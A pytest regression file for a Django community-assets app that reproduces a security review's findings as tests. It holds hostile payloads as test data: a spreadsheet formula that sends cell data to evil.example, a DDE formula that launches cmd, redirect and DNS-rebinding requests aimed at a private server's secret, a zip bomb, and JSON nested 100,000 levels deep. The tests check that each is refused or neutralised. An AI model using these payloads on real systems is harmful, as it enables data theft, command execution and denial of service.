"""The security review's findings, each reproduced as it was reported (issue 18). Each test failed
before its fix; the class-wide tests beside this file keep every member of each class closed."""

import csv
import http.server
import io
import ipaddress
import json
import socket
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from peoplezones.assets.models import Asset, ImportJob, JobStatus
from peoplezones.community import ical
from peoplezones.outcomes.models import Upload
from peoplezones.zones import services as zone_services
from tests import background, factories
from tests.factories import TEST_PASSWORD

pytestmark = pytest.mark.django_db

BELL_FOUNDRY = (-1.2006, 52.7712)  # Loughborough
BELL_ID = "demo-bell-foundry-loughborough-cafe-restaurant-7"


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def two_zones(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    braunstone = factories.zone_with_boundary(name="Braunstone Park")
    bell = factories.zone_with_boundary(*BELL_FOUNDRY, name="Bell Foundry")
    coordinator = factories.CoordinatorFactory()
    braunstone.coordinators.add(coordinator)
    theirs = factories.make_asset(
        "cafe-restaurant", *BELL_FOUNDRY, name="Bell Foundry Cafe", steward_zone=bell,
        source="csv", source_id=BELL_ID, phone="01509 000000", website="https://cafe.example",
    )  # fmt: skip
    return braunstone, bell, coordinator, theirs


def _upload(client: Client, zone, fmt: str, name: str, body: bytes) -> ImportJob:
    client.post(
        "/assets/import/",
        {"format": fmt, "zone": zone.pk, "file": SimpleUploadedFile(name, body)},
    )
    job = ImportJob.objects.latest("pk")
    if job.status == JobStatus.PREVIEWED:  # the attacker confirms whatever the preview said
        client.post(f"/assets/import/{job.pk}/run/")
        job.refresh_from_db()
    return job


def _unchanged(asset: Asset) -> None:
    before = (asset.name, asset.phone, asset.website, asset.visibility)
    asset.refresh_from_db()
    assert (asset.name, asset.phone, asset.website, asset.visibility) == before
    assert Client().get(f"/assets/{asset.pk}/").status_code == 200  # still public


# 1. High: a coordinator rewrites or hides another Zone's assets by import ----------------------


def test_1_a_csv_row_naming_another_zones_asset_is_refused_and_changes_nothing(two_zones):
    braunstone, _bell, coordinator, theirs = two_zones
    client = signed_in(coordinator)
    assert client.get(f"/assets/{theirs.pk}/edit/").status_code == 403
    body = (
        "id,name,category,phone,email,website,latitude,longitude,visibility\n"
        f"{BELL_ID},Closed for good,cafe-restaurant,0000,x@evil.example,"
        f"https://evil.example,{BELL_FOUNDRY[1]},{BELL_FOUNDRY[0]},coordinators\n"
    )
    job = _upload(client, braunstone, "csv", "assets.csv", body.encode())
    assert job.status == JobStatus.REFUSED
    assert any(p.startswith("Line 2, id:") and BELL_ID in p for p in job.problems), job.problems
    _unchanged(theirs)


def test_1_geojson_source_tags_naming_another_zones_asset_are_refused(two_zones):
    braunstone, _bell, coordinator, theirs = two_zones
    feature = {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": list(BELL_FOUNDRY)},
        "properties": {
            "name": "Closed for good", "amenity": "cafe", "pz:source": "csv",
            "pz:source_id": BELL_ID, "pz:visibility": "coordinators",
        },
    }  # fmt: skip
    body = json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()
    job = _upload(signed_in(coordinator), braunstone, "osm_geojson", "x.geojson", body)
    assert job.status == JobStatus.REFUSED
    assert any(p.startswith("Feature 1") and BELL_ID in p for p in job.problems), job.problems
    _unchanged(theirs)


# 2. Medium: server-side request forgery through group calendars --------------------------------


class _Serve(http.server.BaseHTTPRequestHandler):
    routes: dict[str, tuple[int, dict[str, str], bytes]] = {}

    def do_GET(self):
        status, headers, body = self.routes.get(self.path, (404, {}, b"no"))
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def _serve(address: str, port: int, routes: dict) -> http.server.HTTPServer:
    handler = type("Handler", (_Serve,), {"routes": routes})
    server = http.server.ThreadingHTTPServer((address, port), handler)
    server.handle_error = lambda request, client_address: None  # a client that gave up
    background.serve(server)
    return server


@pytest.fixture
def inside_and_outside(monkeypatch):
    """A 'public' server on 127.0.0.2 (treated as public by this test alone) and a private one
    on 127.0.0.1 at the same port, holding a secret."""
    real_is_global = ipaddress.IPv4Address.is_global
    monkeypatch.setattr(
        ipaddress.IPv4Address,
        "is_global",
        property(lambda self: str(self) == "127.0.0.2" or real_is_global.fget(self)),
    )
    for _attempt in range(20):
        public = _serve("127.0.0.2", 0, {})
        port = public.server_address[1]
        try:
            private = _serve("127.0.0.1", port, {"/secret": (200, {}, b"SECRET-TOKEN 42\n")})
            break
        except OSError:
            public.shutdown()
    yield public, port
    public.shutdown()
    private.shutdown()


def test_2_a_public_calendar_redirecting_to_our_own_network_is_not_followed(inside_and_outside):
    public, port = inside_and_outside
    public.RequestHandlerClass.routes["/cal.ics"] = (
        302, {"Location": f"http://127.0.0.1:{port}/secret"}, b""
    )  # fmt: skip
    with pytest.raises(ical.CalendarRefused) as refused:
        ical.fetch(f"http://127.0.0.2:{port}/cal.ics")
    assert "SECRET" not in str(refused.value.problems)
    assert "not a public address" in str(refused.value.problems)


def test_2_a_name_that_resolves_elsewhere_the_second_time_is_not_fetched(
    inside_and_outside, monkeypatch
):
    public, port = inside_and_outside
    calendar = b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nEND:VCALENDAR\r\n"
    public.RequestHandlerClass.routes["/secret"] = (
        200,
        {"Content-Type": "text/calendar"},
        calendar,
    )
    real = socket.getaddrinfo
    lookups = []

    def rebinding(host, *args, **kwargs):
        if host != "calendar.example":
            return real(host, *args, **kwargs)
        lookups.append(host)
        address = "127.0.0.2" if len(lookups) == 1 else "127.0.0.1"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    try:
        data = ical.fetch(f"http://calendar.example:{port}/secret")
    except ical.CalendarRefused as refused:
        data = str(refused.problems).encode()
    assert b"SECRET" not in data
    assert data == calendar  # from the address that was checked


def test_2_what_came_back_is_never_quoted_in_the_error(inside_and_outside):
    public, port = inside_and_outside
    public.RequestHandlerClass.routes["/page"] = (200, {"Content-Type": "text/calendar"},
                                                  b"PRIVATE-DETAIL line one\nline two\n")  # fmt: skip
    group = factories.make_group(calendar_url=f"http://127.0.0.2:{port}/page")
    with pytest.raises(ical.CalendarRefused) as refused:
        ical.import_calendar(group, ical.fetch(group.calendar_url))
    assert "PRIVATE-DETAIL" not in str(refused.value.problems)


# 3. Medium: formula injection in public CSV downloads -------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Opening times")'
CALC = "=1+2+cmd|' /C calc'!A0"


def _cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_3_csv_downloads_neutralise_formulas(db):
    zone = factories.zone_with_boundary()
    factories.make_asset("library", name=HYPERLINK)
    action = factories.ActionFactory(zone=zone)
    zone_services.record_progress(action=action, actor=factories.StaffFactory(), text=CALC)
    assets = b"".join(Client().get("/assets/download.csv").streaming_content)
    plan = Client().get(f"/zones/{zone.slug}/plan.csv").content
    names = [row[1] for row in _cells(assets)[1:]]
    progress = [row[-1] for row in _cells(plan)[1:]]
    assert names == ["'" + HYPERLINK]
    assert progress == ["'" + CALC]


# 4. Low: server errors on malformed input --------------------------------------------------------


def test_4_a_deeply_nested_boundary_is_refused_not_a_server_error(db):
    coordinator = factories.CoordinatorFactory()
    zone = factories.ZoneFactory(coordinators=[coordinator])
    deep = "[" * 100_000 + "]" * 100_000
    response = signed_in(coordinator).post(
        f"/zones/{zone.slug}/manage/boundary/", {"method": "drawn", "geojson": deep}
    )
    assert response.status_code == 400  # the form again, with its error
    assert "nested too deeply" in response.content.decode()


@pytest.mark.parametrize("value", ["1e309", "nan", "'", "2024-01-01", "-1", "\x00"])
def test_4_hostile_ids_in_query_strings_are_not_server_errors(db, value):
    coordinator = factories.CoordinatorFactory()
    zone = factories.ZoneFactory(coordinators=[coordinator])
    client = signed_in(coordinator)
    client.raise_request_exception = False
    objective = client.get(f"/zones/{zone.slug}/manage/objectives/new/", {"proposal": value})
    concern = signed_in(factories.UserFactory()).get(
        f"/volunteering/zones/{zone.slug}/concern/", {"match": value}
    )
    # 404: no such record; 400 for a NUL, which no field accepts (core.middleware)
    assert objective.status_code == concern.status_code == (400 if value == "\x00" else 404)


@pytest.mark.parametrize("fmt", ["osm_geojson", "openreferral"])
def test_4_an_asset_import_of_deep_json_ends_and_deletes_its_file(two_zones, fmt):
    braunstone, _bell, coordinator, _theirs = two_zones
    deep = b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    job = _upload(signed_in(coordinator), braunstone, fmt, "deep.json", deep)
    assert job.status == JobStatus.REFUSED
    assert "nested too deeply" in job.problems[0]
    assert not job.file


# 5. Info: lock-outs anyone can cause; zip members read without limit ----------------------------


def test_5_a_stranger_failing_to_sign_in_does_not_lock_the_owner_out(db):
    owner = factories.UserFactory(email="coordinator@example.org")
    stranger = Client(REMOTE_ADDR="203.0.113.9")
    for _ in range(8):
        stranger.post("/accounts/login/", {"login": owner.email, "password": "guess"})
    blocked = stranger.post("/accounts/login/", {"login": owner.email, "password": TEST_PASSWORD})
    assert blocked.status_code == 200  # the stranger's address is slowed for this account...
    owner_at_home = Client(REMOTE_ADDR="198.51.100.20")
    response = owner_at_home.post(
        "/accounts/login/", {"login": owner.email, "password": TEST_PASSWORD}
    )
    assert response.status_code == 302  # ...the owner, elsewhere, is not
    assert int(owner_at_home.session["_auth_user_id"]) == owner.pk


def test_5_a_zip_member_that_unpacks_far_beyond_its_size_is_refused(db, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("2024-03/2024-03-leicestershire-street.csv", b"\0" * 50_000_000)
    staff = factories.StaffFactory()
    signed_in(staff).post(
        "/outcomes/police/",
        {"file": SimpleUploadedFile("police.zip", packed.getvalue())},
    )
    upload = Upload.objects.get()
    assert upload.status == "failed"
    assert "unpacks to" in upload.results[0]["problems"][0]
    assert not upload.file
